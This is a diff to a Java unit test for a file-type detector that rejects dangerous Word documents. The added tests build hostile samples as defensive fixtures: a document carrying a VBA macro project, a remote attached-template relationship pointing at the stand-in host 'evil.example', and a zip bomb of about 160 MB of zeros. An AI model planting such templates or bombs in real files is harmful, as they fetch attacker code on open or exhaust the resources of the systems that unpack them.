@@ -8,6 +8,8 @@ import java.nio.charset.StandardCharsets;
 import java.util.Arrays;
 import java.util.List;
 import java.util.Map;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
 import org.apache.poi.xwpf.usermodel.XWPFDocument;
 import org.junit.jupiter.api.Test;
 
@@ -65,7 +67,40 @@ class FileTypesTest {
         assertThat(types.of(SampleFiles.zip(Map.of(
                         "[Content_Types].xml", OF_A_DOCUMENT.replace("document.main", "document.macroEnabled.main")))))
                 .isEmpty();
+        assertThat(types.of(
+                        SampleFiles.zip(Map.of("[Content_Types].xml", OF_A_DOCUMENT, "word/VBAPROJECT.bin", "macros"))))
+                .as("in capitals")
+                .isEmpty();
+        String template =
+                "<Relationship Id=\"r1\" Type=\"http://schemas/attachedTemplate\" Target=\"http://evil.example/x.dotm\" TargetMode=\"External\"/>";
+        assertThat(types.of(SampleFiles.zip(
+                        Map.of("[Content_Types].xml", OF_A_DOCUMENT, "word/_rels/settings.xml.rels", template))))
+                .as("what is fetched when it is opened")
+                .isEmpty();
+        assertThat(types.of(SampleFiles.zip(Map.of(
+                        "[Content_Types].xml",
+                        OF_A_DOCUMENT,
+                        "word/_rels/document.xml.rels",
+                        template.replace("attachedTemplate", "hyperlink")))))
+                .as("a link that somebody presses")
+                .contains(FileType.WORD);
         byte[] cut = SampleFiles.zip(Map.of("[Content_Types].xml", OF_A_DOCUMENT));
         assertThat(types.of(Arrays.copyOf(cut, 60))).isEmpty();
+    }
+
+    /** Some hundred kilobytes that become hundreds of millions: none of it is unpacked beyond what a letter may be. */
+    @Test
+    void whatUnpacksToMoreThanALetterMayBeIsRefused() throws IOException {
+        var bomb = new ByteArrayOutputStream();
+        try (var zip = new ZipOutputStream(bomb)) {
+            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
+            zip.write(OF_A_DOCUMENT.getBytes(StandardCharsets.UTF_8));
+            zip.putNextEntry(new ZipEntry("word/media/one.bin"));
+            byte[] noughts = new byte[1_000_000];
+            for (int million = 0; million < 160; million++) {
+                zip.write(noughts);
+            }
+        }
+        assertThat(types.of(bomb.toByteArray())).isEmpty();
     }
 }
